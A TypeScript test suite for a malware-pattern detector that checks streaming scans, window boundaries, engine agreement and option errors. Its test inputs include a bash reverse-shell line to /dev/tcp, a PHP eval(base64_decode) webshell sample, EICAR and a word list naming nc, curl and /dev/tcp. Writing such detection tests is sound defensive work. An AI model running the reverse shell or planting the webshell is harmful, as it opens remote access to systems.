import { hasCode } from '@warden/protocol';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../types.js';
import { compileRules } from './compile.js';
import { patternsDetector, type PatternsDetector } from './detector.js';
import type { EngineName, PatternEngine } from './engine.js';
import { loadYaraX } from './engines/yarax.js';
import * as api from './index.js';
import { DEFAULT_PATTERN_RULES } from './rules/index.js';
import { EICAR_TEST_STRING } from './rules/test-signatures.js';
import { OVERLAP_BYTES, PatternRun } from './run.js';

const hasYara = 'binding' in loadYaraX();
const ENGINES: EngineName[] = hasYara ? ['js', 'yara-x'] : ['js'];
const SMALL_WINDOW = 2 * OVERLAP_BYTES;

function rng(seed: number): () => number {
  // mulberry32: small, seedable, good enough for test data
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Streams `bytes` through a detector in chunks of `chunk` bytes (or sizes drawn from `chunk()`). */
async function scan(det: PatternsDetector, bytes: Uint8Array, chunk: number | (() => number) = 65536): Promise<Finding[]> {
  const run = det.start({ name: 'sample', depth: 0, size: bytes.length, scanMember: () => Promise.reject(new Error('not an archive')) });
  for (let o = 0; o < bytes.length; ) {
    const n = typeof chunk === 'number' ? chunk : chunk();
    run.update(bytes.subarray(o, o + n), o);
    o += n;
  }
  const result = await run.finish({ contentType: 'unknown', bytes: bytes.length });
  expect(result.ran).toBe(true);
  return result.findings;
}

const summary = (findings: Finding[]): string[] => findings.map((f) => `${f.ruleId}@${f.evidence.map((e) => `${e.offset}+${e.length}`).join(',')}`).sort();

const detectors = new Map<string, PatternsDetector>();
function detector(engine: EngineName, windowBytes = 1 << 20): PatternsDetector {
  const key = `${engine}/${windowBytes}`;
  if (!detectors.has(key)) detectors.set(key, patternsDetector({ engine, windowBytes }));
  return detectors.get(key)!;
}

const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');

it('exports a curated surface', () => {
  expect(Object.keys(api).sort()).toEqual(['DEFAULT_PATTERN_RULES', 'MAX_MATCH_BYTES', 'OVERLAP_BYTES', 'patternRulesToYara', 'patternsDetector']);
});

describe.each(ENGINES)('on the %s engine', (engine) => {
  it('reports the rule, its severity and certainty, and evidence with offsets and an escaped excerpt', async () => {
    const text = latin1(`#!/bin/sh\n\x00\x01\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n`);
    const [finding, ...rest] = await scan(detector(engine), text);
    expect(rest).toEqual([]);
    expect(finding).toMatchObject({ detector: 'patterns', ruleId: 'patterns/reverse-shell-bash', severity: 'high', certainty: 0.9 });
    const at = text.indexOf('bash -i');
    expect(finding!.evidence[0]).toMatchObject({ offset: at, excerpt: 'bash -i >& /dev/tcp/' });
    expect(finding!.evidence.map((e) => e.offset)).toEqual([...finding!.evidence.map((e) => e.offset)].sort((a, b) => a - b));
  });

  it('escapes excerpts and keeps them short', async () => {
    const blob = 'QUJD'.repeat(200);
    const [finding] = await scan(detector(engine), latin1(`<?php eval(base64_decode('${blob}')); ?>`));
    expect(finding!.ruleId).toBe('patterns/webshell-php-eval');
    for (const e of finding!.evidence) {
      expect(e.excerpt!.length).toBeLessThanOrEqual(80);
      expect(e.excerpt).toMatch(/^[\x20-\x7e]*…?$/);
    }
    const [clam] = await scan(detector(engine), latin1('MZ\xbb\x71\x10\x40\x00\x33\xc0\x50\x50\x8b\xf3\x53\x53\x50\xb0\x29\x40\x30\x04\x66\xac\x79\xf9\xba\x31\x00\x78\x0d\xad\x50\xff\x66'));
    expect(clam!.evidence[0]!.excerpt).toBe('\\xbbq\\x10@\\x003\\xc0PP\\x8b\\xf3SSP\\xb0)@0\\x04f\\xacy\\xf9\\xba1\\x00x\\r\\xadP\\xfff');
  });

  it('keeps at most maxEvidence entries per finding and counts each match once', async () => {
    const det = patternsDetector({ engine, maxEvidence: 3 });
    const findings = await scan(det, latin1(`${EICAR_TEST_STRING}\n`.repeat(10)), 7);
    expect(findings).toHaveLength(1);
    expect(findings[0]!.evidence.map((e) => e.offset)).toEqual([0, 69, 138]);
  });

  it('finds a pattern split across chunks, even one byte at a time', async () => {
    const text = latin1(`x\n${EICAR_TEST_STRING}\n`);
    for (const chunk of [1, 2, 3, 67, 68]) {
      expect(summary(await scan(detector(engine), text, chunk))).toEqual(['patterns/eicar@2+68']);
    }
  });

  it('finds every rule across a window boundary, once, at every split point', async () => {
    const det = detector(engine, SMALL_WINDOW);
    for (const rule of DEFAULT_PATTERN_RULES) {
      const example = rule.examples.match[0]!;
      const alone = (await scan(detector(engine), latin1(`\n${example}\n`))).find((f) => f.ruleId === rule.id)!;
      const inExample = alone.evidence.map((e) => ({ offset: e.offset - 1, length: e.length }));
      const first = inExample[0]!;
      // Slide the match over the end of the first window, one byte at a time.
      for (let start = SMALL_WINDOW - first.offset - first.length - 2; start <= SMALL_WINDOW - first.offset + 1; start++) {
        const text = Buffer.alloc(3 * SMALL_WINDOW, '.\n');
        text[start - 1] = 0x0a;
        text.write(example, start, 'latin1');
        text[start + example.length] = 0x0a;
        const found = (await scan(det, text, 1000)).find((f) => f.ruleId === rule.id);
        // Same matches at the same offsets; a greedy gap cut by the window's end may end earlier.
        expect(found?.evidence.map((e) => e.offset), `${rule.id} at ${start}`).toEqual(inExample.map((e) => start + e.offset));
      }
    }
  });

  it('streams a large file through bounded memory and finds matches near window edges', () => {
    const det = detector(engine);
    const size = 5 << 20;
    const bytes = Buffer.alloc(size, 'lorem ipsum dolor sit amet\n');
    const places = [0, (1 << 20) - 30, (2 << 20) - OVERLAP_BYTES - 34, 3 << 20, size - EICAR_TEST_STRING.length];
    for (const p of places) bytes.write(EICAR_TEST_STRING, p, 'latin1');
    const run = det.start({ name: 'big', depth: 0, scanMember: () => Promise.reject(new Error('no')) }) as PatternRun;
    const next = rng(7);
    for (let o = 0; o < size; ) {
      const n = Math.floor(next() * 300_000);
      run.update(bytes.subarray(o, o + n), o);
      o += n;
      expect((run as unknown as { buf: Uint8Array }).buf.length).toBeLessThanOrEqual(1 << 20);
    }
    const { findings } = run.finish();
    expect(findings.map((f) => [f.ruleId, f.evidence.map((e) => e.offset)])).toEqual([['patterns/eicar', places]]);
  });

  it('does not crash or invent findings on binary garbage', async () => {
    const next = rng(42);
    const random = Buffer.alloc(4 << 20);
    for (let i = 0; i < random.length; i++) random[i] = Math.floor(next() * 256);
    const inputs = [
      random,
      Buffer.alloc(1 << 20, 0xff),
      Buffer.alloc(1 << 20, 0),
      latin1('\xf3\xa0'.repeat(100_000)),
      latin1('nc '.repeat(100_000)),
      latin1('$_GET'.repeat(50_000)),
      Buffer.alloc(0),
    ];
    for (const bytes of inputs) {
      const findings = await scan(detector(engine, SMALL_WINDOW), bytes, () => Math.floor(next() * 5000));
      expect(findings).toEqual([]);
    }
  }, 60_000); // ~9 MiB in small random chunks; under a loaded CI host the 5 s default was seen to run out
});

describe.runIf(hasYara)('the two engines', () => {
  it('agree on a generated corpus, evidence offsets included', async () => {
    const next = rng(1234);
    const pick = <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]!;
    const examples = DEFAULT_PATTERN_RULES.flatMap((r) => [...r.examples.match, ...r.examples.notMatch]);
    const words = ['the', 'exec', 'eval', 'socket', 'connect', 'curl', 'base64', 'sh', '-i', '/dev/tcp/', 'nc', '$_GET', 'ignore', 'previous', '|', '>&', '\n', ' ', '(', ')', '"'];
    const piece = (): string => {
      const r = next();
      if (r < 0.3) return pick(examples);
      if (r < 0.45) {
        const e = pick(examples);
        return e.slice(0, Math.floor(next() * e.length));
      }
      if (r < 0.55) return pick(examples).replace(/[a-z]/g, (c) => (next() < 0.3 ? c.toUpperCase() : c));
      if (r < 0.8) return Array.from({ length: 20 }, () => pick(words)).join(next() < 0.5 ? ' ' : '');
      return String.fromCharCode(...Array.from({ length: 64 }, () => Math.floor(next() * 256)));
    };
    let withFindings = 0;
    for (let doc = 0; doc < 300; doc++) {
      const text = latin1(Array.from({ length: 5 + Math.floor(next() * 60) }, piece).join(pick(['', '\n', ' ', ';'])));
      const windowBytes = next() < 0.5 ? SMALL_WINDOW : 1 << 20;
      const js = summary(await scan(detector('js', windowBytes), text, 997));
      const yara = summary(await scan(detector('yara-x', windowBytes), text, 997));
      expect(yara, `document ${doc}: ${JSON.stringify(text.toString('latin1').slice(0, 300))}`).toEqual(js);
      if (js.length > 0) withFindings++;
    }
    expect(withFindings).toBeGreaterThan(100);
  });
});

describe('options', () => {
  it.each([
    [{ engine: 'yara' }, /engine must be one of auto, yara-x, js, got "yara"/],
    [{ windowBytes: 100 }, /windowBytes must be an integer from 4096 to 67108864, got 100/],
    [{ windowBytes: 1.5e6 + 0.5 }, /windowBytes must be an integer/],
    [{ maxEvidence: 0 }, /maxEvidence must be an integer from 1 to 100, got 0/],
    [{ env: { WARDEN_SCAN_ENGINE: 'fast' } }, /WARDEN_SCAN_ENGINE must be one of auto, yara-x, js, got "fast"/],
  ])('refuses %j', (options, message) => {
    let caught: unknown;
    try {
      patternsDetector(options as Parameters<typeof patternsDetector>[0]);
    } catch (err) {
      caught = err;
    }
    expect(hasCode(caught, 'E_INVALID_ARGUMENT')).toBe(true);
    expect((caught as Error).message).toMatch(message);
  });

  it('auto is the JS engine; WARDEN_SCAN_ENGINE picks one; an explicit engine option wins over it', () => {
    expect(patternsDetector({ env: { WARDEN_SCAN_ENGINE: 'js' } }).engine).toBe('js');
    expect(patternsDetector({ env: { WARDEN_SCAN_ENGINE: 'js' }, engine: 'js' }).engine).toBe('js');
    expect(patternsDetector({ env: {} }).engine).toBe('js');
    if (hasYara) expect(patternsDetector({ env: { WARDEN_SCAN_ENGINE: 'yara-x' } }).engine).toBe('yara-x');
    if (hasYara) expect(patternsDetector({ env: { WARDEN_SCAN_ENGINE: 'js' }, engine: 'yara-x' }).engine).toBe('yara-x');
  });
});

it('a failing engine fails the run instead of reporting the file clean', () => {
  const broken: PatternEngine = {
    name: 'js',
    scan() {
      throw new Error('engine exploded');
    },
  };
  const run = new PatternRun({ compiled: compileRules(DEFAULT_PATTERN_RULES), engine: broken, windowBytes: SMALL_WINDOW, maxEvidence: 5 });
  run.update(Buffer.alloc(3 * SMALL_WINDOW));
  let caught: unknown;
  try {
    run.finish();
  } catch (err) {
    caught = err;
  }
  expect(hasCode(caught, 'E_INTERNAL')).toBe(true);
  expect((caught as Error).message).toBe('The js pattern engine failed: engine exploded');
});
